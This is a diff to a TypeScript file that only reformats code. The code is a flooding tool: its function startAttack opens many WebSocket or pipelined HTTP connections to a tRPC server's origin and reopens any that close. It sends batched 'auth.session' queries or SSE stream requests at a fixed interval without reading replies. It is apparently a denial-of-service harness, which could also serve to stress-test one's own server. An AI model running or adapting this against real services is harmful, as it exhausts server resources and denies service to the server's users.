@@ -24,9 +24,14 @@ const CALL = 'auth.session';
 /** The server's own limit on a batch over HTTP. */
 const HTTP_BATCH = 10;
 
-/** Sends frames over all connections until told to stop. What is closed is opened again at once. @returns stops it */
+/**
+ * Sends frames over all connections until told to stop. What is closed is opened again at once.
+ * @returns stops it
+ */
 export function startAttack(attack: Attack): () => void {
-  const attackers = Array.from({ length: attack.connections }, () => (attack.transport === 'websocket' ? overWebSocket(attack) : overHttp(attack)));
+  const attackers = Array.from({ length: attack.connections }, () =>
+    attack.transport === 'websocket' ? overWebSocket(attack) : overHttp(attack),
+  );
   const timer = setInterval(() => {
     for (const { send } of attackers) send();
   }, attack.frameEveryMs);
@@ -46,7 +51,9 @@ function overWebSocket({ origin, cookie, reads, callsPerFrame }: Attack): Attack
   let id = 0;
 
   function open(): WebSocket {
-    const opened = new WebSocket(`${origin.replace('http', 'ws')}/trpc`, { headers: { origin, ...(cookie && { cookie }) } });
+    const opened = new WebSocket(`${origin.replace('http', 'ws')}/trpc`, {
+      headers: { origin, ...(cookie && { cookie }) },
+    });
     opened.on('open', () => reads || opened.pause());
     opened.on('error', () => {});
     return opened;
@@ -56,17 +63,29 @@ function overWebSocket({ origin, cookie, reads, callsPerFrame }: Attack): Attack
     send() {
       if (!socket || socket.readyState > socket.OPEN) socket = open();
       if (socket.readyState !== socket.OPEN || socket.bufferedAmount > MAX_UNSENT) return;
-      socket.send(JSON.stringify(Array.from({ length: callsPerFrame }, () => ({ id: ++id, method: 'query', params: { path: CALL } }))));
+      socket.send(
+        JSON.stringify(
+          Array.from({ length: callsPerFrame }, () => ({
+            id: ++id,
+            method: 'query',
+            params: { path: CALL },
+          })),
+        ),
+      );
     },
     end: () => socket?.terminate(),
   };
 }
 
-/** Requests one after another on one connection, without waiting for answers. For SSE each asks for a stream. */
+/**
+ * Requests one after another on one connection, without waiting for answers. For SSE each asks for
+ * a stream.
+ */
 function overHttp({ origin, transport, cookie, reads, callsPerFrame }: Attack): Attacker {
   const { hostname, port, host } = new URL(origin);
   const lines = [`Host: ${host}`, ...(cookie ? [`Cookie: ${cookie}`] : [])];
-  const request = (path: string, ...more: string[]) => [`GET ${path} HTTP/1.1`, ...lines, ...more, '', ''].join('\r\n');
+  const request = (path: string, ...more: string[]) =>
+    [`GET ${path} HTTP/1.1`, ...lines, ...more, '', ''].join('\r\n');
   const batch = request(`/trpc/${Array.from({ length: HTTP_BATCH }, () => CALL).join()}?batch=1`);
   const stream = request('/trpc/account.watchSecurityEvents', 'Accept: text/event-stream');
   const frame = transport === 'sse' ? stream : batch.repeat(Math.ceil(callsPerFrame / HTTP_BATCH));
